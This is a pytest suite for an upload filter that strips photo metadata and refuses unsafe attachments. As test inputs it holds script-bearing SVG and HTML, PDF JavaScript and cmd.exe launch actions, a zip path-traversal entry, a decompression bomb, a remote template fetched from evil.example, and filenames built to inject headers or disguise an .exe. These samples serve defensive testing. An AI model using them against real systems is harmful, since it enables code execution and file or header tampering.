"""What may be attached, what is taken out of it, and what is refused."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Mapping

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from guiju.core.findings import Finding
from guiju.files.attachments import Admitted, AttachmentKind, admit
from guiju.files.attachments.naming import safe_name

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
OBJECTS = b"1 0 obj <</Type /Catalog>> endobj\n"


def archive(entries: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive of these entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return out.getvalue()


def pdf(body: bytes = OBJECTS) -> bytes:
    """Return a small PDF file around a body."""
    return b"%PDF-1.7\n" + body + b"xref\n0 1\ntrailer <<>>\nstartxref\n9\n%%EOF\n"


def photograph(**extra: object) -> bytes:
    """Return a JPEG as a phone makes it: with place, device and a comment."""
    chance = random.Random(2031)
    grain = bytes(min(255, max(0, round(chance.gauss(128, 40)))) for _ in range(64 * 48))
    image = Image.frombytes("L", (64, 48), grain).convert("RGB")
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Maker", "Phone 7"
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 5.0, 12.0), 3: "E", 4: (109.0, 1.0, 2.0)})
    exif.update(extra.pop("tags", {}))  # type: ignore[call-overload]
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"taken by Lin", icc_profile=b"profile of a phone" * 10, **extra)
    return out.getvalue()


def admitted(data: bytes, name: str = "proof") -> Admitted:
    """Return what is kept of a file that must be admitted."""
    found = admit(data, name)
    assert isinstance(found, Admitted), found
    return found


def refused(data: bytes, name: str = "proof") -> str:
    """Return why a file is not kept."""
    found = admit(data, name)
    assert isinstance(found, Finding), found.kind
    return found.code


def test_a_photograph_loses_place_device_comment_and_profile() -> None:
    """Only the picture is left, and it is the same picture."""
    sent = photograph()
    kept = admitted(sent, "IMG_2031.jpeg")
    for trace in (b"Phone 7", b"Maker", b"Lin", b"profile of a phone", b"Exif", b"GPS"):
        assert trace not in kept.data
    with Image.open(io.BytesIO(kept.data)) as now, Image.open(io.BytesIO(sent)) as before:
        assert dict(now.getexif()) == {}
        difference = [abs(a - b) for a, b in zip(now.tobytes(), before.tobytes(), strict=True)]
        assert max(difference) <= 2
    assert (kept.kind, kept.name) == (AttachmentKind.JPEG, "IMG_2031.jpg")
    assert kept.sent_hash == hashlib.sha256(sent).hexdigest()
    assert kept.kept_hash == hashlib.sha256(kept.data).hexdigest() != kept.sent_hash


def test_a_photograph_held_sideways_is_turned_before_its_note_is_lost() -> None:
    """Orientation 6 means: turn it by a quarter."""
    kept = admitted(photograph(tags={0x0112: 6}))
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (48, 64)


def test_what_hangs_behind_a_picture_is_gone() -> None:
    """A zip behind a JPEG, text and a zip behind a PNG."""
    assert b"PK\x03\x04" not in admitted(photograph() + archive({"a.html": "x"})).data
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Lin of the third village")
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (10, 20, 30, 40)).save(out, "PNG", pnginfo=info, exif=Image.Exif().tobytes())
    kept = admitted(out.getvalue() + b"<script>alert(1)</script>")
    assert b"Lin" not in kept.data
    assert b"script" not in kept.data
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.getpixel((0, 0)) == (10, 20, 30, 40)


def test_a_picture_that_claims_too_many_pixels_is_not_unpacked() -> None:
    """100,000 by 100,000 in a few bytes."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
    data = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )
    assert refused(data) in {"attachment-too-many-pixels", "attachment-broken"}


def test_a_moving_picture_is_refused() -> None:
    """APNG."""
    frames = [Image.new("RGB", (8, 8), color) for color in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    assert refused(out.getvalue()) == "attachment-moves"


def test_half_a_picture_is_refused() -> None:
    """Cut off in the middle."""
    assert refused(photograph()[:600]) == "attachment-broken"
    assert refused(b"\xff\xd8\xff" + b"not a picture") == "attachment-broken"


@pytest.mark.parametrize(
    ("data", "name", "kind", "shown"),
    [
        (pdf(), "依据.PDF", AttachmentKind.PDF, "依据.pdf"),
        (archive({"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}), "a.docx", AttachmentKind.DOCX, "a.docx"),
        (
            archive({"OFD.xml": '<o:OFD xmlns:o="http://www.ofdspec.org/2016"/>'}),
            "公文",
            AttachmentKind.OFD,
            "公文.ofd",
        ),
        ("单位,数\n甲,1\n".encode("gb18030"), "表.csv", AttachmentKind.CSV, "表.csv"),
        ("说明：a < b，无误。".encode(), "说明.md", AttachmentKind.TXT, "说明.txt"),
    ],
)
def test_what_may_be_attached(data: bytes, name: str, kind: AttachmentKind, shown: str) -> None:
    """Told by content; the name follows."""
    found = admitted(data, name)
    assert (found.kind, found.name) == (kind, shown)


def test_a_workbook_may_be_attached() -> None:
    """As openpyxl writes it."""
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    assert admitted(out.getvalue(), "x.zip").kind is AttachmentKind.XLSX


def test_text_is_kept_as_utf_8() -> None:
    """So that everybody can read it."""
    assert admitted("澄川".encode("gb18030"), "a.txt").data == "澄川".encode()


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "attachment-empty"),
        (b"x" * 11, "attachment-too-large"),
    ],
)
def test_nothing_and_too_much(data: bytes, code: str) -> None:
    """Against a limit of ten bytes."""
    found = admit(data, "a.txt", at_most=10)
    assert isinstance(found, Finding)
    assert found.code == code


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><p>hello",
        b"  \n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg/>",
        "\ufeff<html>".encode(),
        b"GIF-like words <script>alert(1)</script>",
    ],
)
def test_what_a_browser_would_run_is_refused(data: bytes) -> None:
    """Whatever it is called."""
    assert refused(data, "photo.jpg") == "attachment-active"


@pytest.mark.parametrize(
    "data", [b"MZ\x90\0\x03", b"\x7fELF\x02\x01\x01\0", b"GIF89a\x01\0\x01\0", b"Rar!\x1a\x07\0", b"\0\0\0\x20ftypheic"]
)
def test_other_kinds_are_refused(data: bytes) -> None:
    """Programs, moving pictures, other archives."""
    assert refused(data, "a.pdf") == "attachment-kind-refused"


@pytest.mark.parametrize(
    ("entries", "code"),
    [
        ({"a.txt": "hello"}, "attachment-kind-refused"),
        ({"[Content_Types].xml": TYPES, "word/vbaProject.bin": b"x"}, "attachment-active"),
        ({"[Content_Types].xml": TYPES.replace("document.main", "document.macroEnabled.main")}, "attachment-active"),
        ({"[Content_Types].xml": TYPES, "word/embeddings/oleObject1.bin": b"x"}, "attachment-active"),
        ({"[Content_Types].xml": TYPES, "../../evil": b"x"}, "attachment-broken"),
        ({"[Content_Types].xml": TYPES, "bomb": b"\0" * 30_000_000}, "attachment-grows"),
        (
            {
                "[Content_Types].xml": TYPES,
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            },
            "attachment-active",
        ),
    ],
)
def test_packages_that_are_refused(entries: Mapping[str, str | bytes], code: str) -> None:
    """Plain archives, macros, embedded objects, ways out, bombs, templates loaded from elsewhere."""
    assert refused(archive(entries), "a.docx") == code


def test_a_link_that_is_clicked_is_no_danger() -> None:
    """Only what loads by itself is."""
    rels = '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="http://a.example" TargetMode="External"/></Relationships>'
    data = archive({"[Content_Types].xml": TYPES, "word/_rels/document.xml.rels": rels})
    assert admitted(data).kind is AttachmentKind.DOCX


def test_a_package_with_something_before_or_behind_it_is_refused() -> None:
    """A PDF in front, a page behind, a comment at the end."""
    package = archive({"[Content_Types].xml": TYPES})
    assert refused(package + b"<html>") == "attachment-two-in-one"
    assert refused(pdf() + package) == "attachment-two-in-one"
    assert refused(package[:4] + b"\0" * 30 + package) in {"attachment-two-in-one", "attachment-broken"}


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>> >> endobj\n", "attachment-active"),
        (b"1 0 obj <</S /J#61vaScript>> endobj\n", "attachment-active"),
        (b"1 0 obj <</Type /EmbeddedFile>> endobj\n", "attachment-active"),
        (b"1 0 obj <</S /Launch /F (cmd.exe)>> endobj\n", "attachment-active"),
        (b"trailer <</Encrypt 3 0 R>>\n", "attachment-locked"),
    ],
)
def test_pdf_files_that_do_something_are_refused(body: bytes, code: str) -> None:
    """Scripts, files inside, programs; and what cannot be looked into."""
    assert refused(pdf(body)) == code


def test_a_script_in_a_compressed_list_of_objects_is_found() -> None:
    """As most writers store it; the same word in a picture's bytes is no script."""
    packed = zlib.compress(b"4 0 <</S /JavaScript /JS (x)>>")
    hidden = b"2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + packed + b"\nendstream endobj\n"
    assert refused(pdf(hidden)) == "attachment-active"
    picture = b"2 0 obj <</Subtype /Image>> stream\n..../JS ....\nendstream endobj\n"
    assert admitted(pdf(picture)).kind is AttachmentKind.PDF


def test_a_list_of_objects_that_grows_is_refused() -> None:
    """A hundred mebibytes of nothing."""
    packed = zlib.compress(b" " * (100 * 2**20))
    body = b"2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + packed + b"\nendstream endobj\n"
    assert refused(pdf(body)) == "attachment-grows"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\lin\\依据.pdf", "依据.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("con.pdf", "attachment_con.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a_bSet-Cookie_ x.pdf"),
        ("", "attachment.pdf"),
        ("x" * 500 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_names_are_made_safe(name: str, safe: str) -> None:
    """No folders, no turning marks, no line breaks, the ending of the kind."""
    assert safe_name(name, AttachmentKind.PDF) == safe


@given(st.text(max_size=200))
def test_any_name_becomes_a_safe_one(name: str) -> None:
    """Never a path, never hidden, never empty; made safe twice it is the same."""
    safe = safe_name(name, AttachmentKind.TXT)
    assert not set(safe) & set('\\/:*?"<>|\r\n\0')
    assert safe.endswith(".txt")
    assert not safe.startswith(".")
    assert safe_name(safe, AttachmentKind.TXT) == safe


@given(
    st.binary(max_size=300), st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"])
)
def test_no_bytes_break_the_door(data: bytes, start: bytes) -> None:
    """Whatever comes is admitted or refused with a finding."""
    assert isinstance(admit(start + data, "a"), Admitted | Finding)
